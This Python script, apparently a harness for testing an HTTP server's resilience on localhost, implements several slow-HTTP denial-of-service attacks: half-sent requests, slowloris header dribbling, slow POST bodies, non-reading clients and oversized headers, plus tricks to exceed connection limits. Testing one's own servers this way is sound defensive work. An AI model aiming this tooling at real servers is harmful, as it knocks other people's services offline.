"""Clients that hold a server up: attack.py KIND PORT CORES, where CORES (as 1 or 2-3) are the server's and left to it.

half    10,000 requests of which the rest never comes
loris   1000 heads that come a byte a second
body    1000 bodies that come a byte a second
read    200 clients that ask for 64 MiB and read nothing
large   heads of 1 MiB, five a second, over new connections

Waits for the server, begins, and goes on until it is ended.
"""

import os
import resource
import socket
import sys
import time

kind, port, served = sys.argv[1], int(sys.argv[2]), sys.argv[3]

HALF = b"GET / HTTP/1.1\r\nHost: a\r\nX: "
CLIENTS = {
    "half": (10_000, HALF),
    "loris": (1000, HALF),
    "body": (1000, b"POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 900000\r\n\r\n"),
    "read": (200, b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n"),
    "large": (0, b""),
}
many, first = CLIENTS[kind]


def cores(text):
    """The numbers in a list as 0,2-3."""
    for part in text.split(","):
        low, _, high = part.partition("-")
        yield from range(int(low), int(high or low) + 1)


def client(number):
    """A new connection; no address of this machine has ports for all of them."""
    one = socket.socket()
    one.bind((f"127.0.0.{2 + number // 5000}", 0))
    one.connect(("127.0.0.1", port))
    one.send(first)
    one.setblocking(False)
    return one


def wait_for_server():
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port)).close()
        except ConnectionRefusedError:
            time.sleep(0.01)


def dribble(clients):
    """A byte a second to each, in turn; whoever has been hung up on comes again."""
    while True:
        for number, one in enumerate(clients):
            try:
                one.send(b"a")
            except BlockingIOError:
                pass
            except OSError:
                one.close()
                clients[number] = client(number)
            # One by one: what comes in a bunch holds others up for as long as the bunch takes.
            time.sleep(0.001)


def large_heads():
    head = HALF + bytes([ord("a")]) * (1 << 20)
    while True:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as one:
            try:
                one.sendall(head)
                one.recv(4096)
            except OSError:
                pass
        time.sleep(0.2)


# Also when whoever started this was kept to the server's cores.
others = set(range(os.cpu_count())) - set(cores(served))
if others:
    os.sched_setaffinity(0, others)
os.nice(19)
limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
wait_for_server()
clients = [client(number) for number in range(many)]
if kind == "large":
    large_heads()
if kind in ("loris", "body"):
    dribble(clients)
while True:
    time.sleep(60)
